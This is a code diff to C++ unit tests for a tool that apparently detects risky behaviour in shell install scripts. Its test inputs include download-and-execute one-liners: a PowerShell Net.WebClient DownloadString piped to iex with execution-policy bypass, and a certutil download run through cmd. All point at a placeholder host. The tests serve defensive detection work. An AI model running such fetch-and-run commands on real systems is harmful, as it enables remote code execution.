@@ -308,14 +308,15 @@ TEST(ShellFacts, ReadsPowerShellAndCmd) {
         "download host=h.example insecure=no program=iwr to=variable transport=https "
         "url=https://h.example/p.ps1\n"
         "download-run host=h.example how=substitution interpreter=iex program=iwr "
-        "url=https://h.example/p.ps1\n");
+        "url=https://h.example/p.ps1\neval how=fetched program=powershell\n");
   Check(
       "powershell -ep bypass -c \"(New-Object Net.WebClient).DownloadString('https://h.example/a') "
       "| iex\"",
       "download host=h.example insecure=no program=powershell to=variable transport=https "
       "url=https://h.example/a\n"
-      "download-run host=h.example how=substitution interpreter=powershell program=powershell "
+      "download-run host=h.example how=pipe interpreter=iex program=powershell "
       "url=https://h.example/a\n"
+      "eval how=fetched program=powershell\n"
       "permission mode=execution-policy path=bypass\n");
   Check("cmd /c certutil -urlcache -f http://h.example/a.exe a.exe && a.exe",
         "download host=h.example insecure=yes program=certutil to=file transport=http "
@@ -338,7 +339,8 @@ TEST(ShellFacts, IsBounded) {
   for (std::size_t i = 0; i <= limits::kShellFollowed + 5; ++i)
     files.push_back(
         {"s" + std::to_string(i) + ".sh", "sudo a; sh s" + std::to_string(i + 1) + ".sh"});
-  const Facts facts = InstallFacts("sh s0.sh", files);
+  Facts facts = InstallFacts("sh s0.sh", files);
+  std::erase_if(facts, [](const Fact& fact) { return fact.phase != Phase::kInstall; });
   EXPECT_LE(Only(facts, "script.privilege").size(), limits::kShellFollowed);
 }
 
